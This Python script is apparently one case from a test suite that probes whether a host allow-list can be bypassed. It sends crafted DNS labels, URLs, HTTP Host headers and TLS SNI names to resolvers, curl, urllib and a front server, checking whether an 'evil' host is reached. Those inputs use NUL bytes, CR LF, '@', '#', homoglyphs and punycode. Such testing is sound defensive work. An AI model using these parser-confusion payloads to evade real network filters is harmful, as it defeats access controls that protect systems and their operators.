# Case 11: names that two parsers read differently. One of them believes that they
# are the allowed host, the other goes to another.
import sys
from attempts import *

allowed, evil = sys.argv[1:3]
here = resolver()


def labels(*parts):
    return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"


a, e = [p.encode() for p in allowed.split(".")], [p.encode() for p in evil.split(".")]
names = {
    "NUL": labels(a[0], a[1] + b"\0", *e), "NUL in one label": labels(allowed.encode() + b"\0." + evil.encode()), "dots in one label": labels(allowed.encode()),
    "CR LF": labels(a[0], a[1] + b"\r\n", *e), "space": labels(a[0], a[1] + b" ", *e), "percent": labels(a[0], a[1] + b"%00", *e), "at": labels(a[0], a[1] + b"@" + e[0], *e[1:]),
    "hash": labels(e[0], e[1] + b"#" + a[0], a[1]), "slash": labels(e[0], e[1] + b"/" + a[0], a[1]), "suffix": labels(*a, *e), "prefix": labels(b"not" + a[0], a[1]), "below": labels(b"x", *a),
    "homoglyph": labels("\u0430pi".encode(), a[1]), "punycode": labels(b"xn--pi-7kc", a[1]), "zone": labels(a[0], a[1] + b"%eth0"), "star": labels(b"*", a[1]),
    "underscore": labels(b"_" + a[0], a[1]), "empty label": b"\x03api\0\x07example\0", "compressed": b"\xc0\x0c", "255 bytes": labels(*[b"x" * 60] * 4, *e)[:300], "root": b"\0",
    "high bytes": labels(b"api\xff", a[1]), "tab": labels(b"api\t", a[1]), "backslash": labels(b"api\\.example", *e),
}
work = []
for what, raw in names.items():
    for kind in (1, 16):
        work.append((f"{what}, type {kind}", lambda raw=raw, kind=kind: answers(dns(here, question("", kind, raw)))))
for url in (f"http://{allowed}@{evil}/", f"http://{evil}#{allowed}/", f"http://{evil}\\@{allowed}/", f"http://{allowed}.{evil}/", f"http://{allowed}%00.{evil}/", f"http://{allowed}%2f@{evil}/",
            f"http://{evil}%23@{allowed}.{evil}/", f"http://{allowed}:80@{evil}/", f"http://{allowed};@{evil}/"):
    work.append((f"curl {url}", lambda url=url: evil.encode() in curl(url)))
    work.append((f"urllib {url}", lambda url=url: evil.encode() in subprocess.run(["/usr/bin/python3", "-c", "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=4).read())", url],
                                                                                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20).stdout))
for value in (f"{allowed}\0.{evil}", f"{allowed} {evil}", f"{allowed}@{evil}", f"{evil}#@{allowed}", f"{evil}", f"{allowed}.{evil}", f"{evil}:80", f"\t{evil}", f"{allowed}:80:{evil}", f"[{evil}]"):
    def front(value=value):
        got = tcp(allowed, 80, f"GET / HTTP/1.1\r\nHost: {value}\r\nConnection: close\r\n\r\n".encode())
        return got if b"reached" in got else None
    work.append((f"Host {value!r}", front))


def hello(name):
    """The start of TLS with any bytes as its name."""
    sni = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    ext = struct.pack(">HH", 0, len(sni)) + sni + bytes.fromhex("000d000800060403080404010010000b00090268320568747470")[:0] + bytes.fromhex("000a00040002001d") + bytes.fromhex("000d00080006040308040401") + \
        bytes.fromhex("002b0003020304") + bytes.fromhex("00330026 0024 001d 0020".replace(" ", "")) + bytes(31) + b"\x09"
    body = b"\x03\x03" + bytes(32) + b"\0" + bytes.fromhex("0006130113021303") + b"\x01\0" + struct.pack(">H", len(ext)) + ext
    shake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(shake)) + shake


for name in (allowed.encode() + b"\0." + evil.encode(), evil.encode(), evil.encode() + b"\0" + allowed.encode(), allowed.encode() + b"." + evil.encode(), allowed.encode() + b"..", b"." + allowed.encode(),
             b"*." + evil.encode(), b"x" * 300, b"127.0.0.1", "\u0430pi.example".encode()):
    def start(name=name):
        got = tcp(allowed, 443, hello(name))
        return got if got[:1] in (b"\x16", b"\x15") else None
    work.append((f"SNI {name[:40]!r}", start))
all_at_once(work)
